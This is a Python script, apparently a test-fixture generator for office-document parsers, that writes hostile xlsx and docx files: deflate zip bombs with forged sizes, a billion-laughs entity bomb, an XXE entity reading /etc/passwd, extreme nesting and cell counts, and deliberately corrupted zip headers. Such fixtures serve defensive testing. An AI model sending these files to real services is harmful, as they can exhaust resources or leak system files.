"""Writes files that try to harm the office readers into the folder given."""
import struct, sys, zipfile, zlib
from pathlib import Path

out = Path(sys.argv[1])
out.mkdir(exist_ok=True)
BOOK = "<workbook xmlns:r='r'><sheets><sheet name='S' sheetId='1' r:id='a'/></sheets></workbook>"
RELS = "<Relationships><Relationship Id='a' Type='x/worksheet' Target='worksheets/sheet1.xml'/></Relationships>"
SHEET = "xl/worksheets/sheet1.xml"


def book(name, sheet, **more):
    with zipfile.ZipFile(out / name, "w", zipfile.ZIP_DEFLATED) as z:
        for part, text in {"xl/workbook.xml": BOOK, "xl/_rels/workbook.xml.rels": RELS, **more, SHEET: sheet}.items():
            z.writestr(part, text)


def rows(inner):
    return f"<worksheet><sheetData>{inner}</sheetData></worksheet>"


def bomb(name, head, block, times):
    """One part that unpacks to `times` blocks; deflated once and repeated after full flushes."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = deflate.compress(head) + deflate.flush(zlib.Z_FULL_FLUSH)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    data = start + piece * times + b"\x03\x00"
    size = min(len(head) + len(block) * times, 0xFFFFFFFE)
    parts = [("xl/workbook.xml", BOOK.encode(), 0), ("xl/_rels/workbook.xml.rels", RELS.encode(), 0), (SHEET, data, 8)]
    with open(out / name, "wb") as f:
        central = b""
        for part, content, method in parts:
            plain = len(content) if method == 0 else size
            common = struct.pack("<HHHHHLLLHH", 20, 0, method, 0, 33, zlib.crc32(content), len(content), plain, len(part), 0)
            central += b"PK\1\2" + struct.pack("<H", 20) + common + struct.pack("<HHHLL", 0, 0, 0, 0, f.tell()) + part.encode()
            f.write(b"PK\3\4" + common + part.encode() + content)
        where = f.tell()
        f.write(central + b"PK\5\6" + struct.pack("<HHHHLLH", 0, 0, 3, 3, len(central), where, 0))


LOL = "<!DOCTYPE l [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 12)) + "]>"
bomb("zeros.xlsx", b"<worksheet><sheetData>", bytes(1 << 20), 10240)
bomb("rows.xlsx", b"<worksheet><sheetData>", b"<row/>" * 170000, 1024)
bomb("cells.xlsx", b"<worksheet><sheetData><row>", b"<c><v>1</v></c>" * 68000, 10240)
book("laughs.xlsx", LOL + rows("<row><c t='str'><v>&a11;</v></c></row>"))
book("external.xlsx", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>" + rows("<row><c t='str'><v>&e;</v></c></row>"))
book("entity.xlsx", rows("<row><c t='str'><v>&khong;</v></c></row>"))
book("columns.xlsx", rows("<row>" + "<c><v>1</v></c>" * 10000000 + "</row>"))
book("far.xlsx", rows("<row><c r='ZZZZZZ1'><v>1</v></c></row>"))
book("strings.xlsx", rows("<row><c t='s'><v>999999999</v></c></row>" * 1000000), **{"xl/sharedStrings.xml": "<sst><si/></sst>"})
book("empty-strings.xlsx", rows(""), **{"xl/sharedStrings.xml": "<sst>" + "<si/>" * 36000000 + "</sst>"})
book("repeated.xlsx", rows(("<row>" + "<c t='s'><v>0</v></c>" * 3000 + "</row>") * 300),
     **{"xl/sharedStrings.xml": "<sst><si><t>" + "chữ " * 100000 + "</t></si></sst>"})
book("blanks.xlsx", rows("<row><c r='XFD1'><v>1</v></c></row>" * 400000))
book("nested.xlsx", "<a>" * 200000 + "</a>" * 200000)
book("attributes.xlsx", "<worksheet " + " ".join(f"a{i}=''" for i in range(1000000)) + "/>")
book("nul.xlsx", rows("<row><c t='str'><v>a\0b</v></c></row>"))
book("long.xlsx", rows("<row><c t='str'><v>" + "x" * 50000000 + "</v></c></row>"))
book("cdata.xlsx", rows("<row><c t='str'><v>" + "<![CDATA[xxxxxxxxxx]]>" * 2000000 + "</v></c></row>"))
book("utf16.xlsx", rows("<row/>").encode("utf-16"))
book("cut.xlsx", rows("")[:-9])
book("sheets.xlsx", rows("<row/>"), **{"xl/workbook.xml": "<workbook xmlns:r='r'><sheets>" + "<sheet name='S' r:id='a'/>" * 100000 + "</sheets></workbook>"})
with zipfile.ZipFile(out / "parts.xlsx", "w") as z:
    for i in range(30000):
        z.writestr(f"xl/{i}", "")
with zipfile.ZipFile(out / "nested.docx", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("word/document.xml", "<w:document xmlns:w='w'>" + "<w:tbl><w:tr><w:tc>" * 60000)
with zipfile.ZipFile(out / "long.docx", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("word/document.xml", "<w:document xmlns:w='w'><w:body><w:p>" + "<w:r><w:t>" + "x" * 900000 + "</w:t></w:r>" + "<w:r><w:t>y</w:t></w:r>" * 2000000 + "</w:p></w:body></w:document>")

if len(sys.argv) > 2:  # a good file to spoil
    GOOD = Path(sys.argv[2]).read_bytes()

    def spoiled(name, *changes):
        data = bytearray(GOOD)
        for magic, offset, bits in changes:
            at = data.find(magic)
            while at >= 0:
                data[at + offset] ^= bits
                at = data.find(magic, at + 4)
        (out / name).write_bytes(data)

    spoiled("crc.xlsx", (b"PK\1\2", 16, 0xFF), (b"PK\3\4", 14, 0xFF))
    spoiled("password.xlsx", (b"PK\1\2", 8, 1), (b"PK\3\4", 6, 1))
    spoiled("method.xlsx", (b"PK\1\2", 10, 0x40), (b"PK\3\4", 8, 0x40))
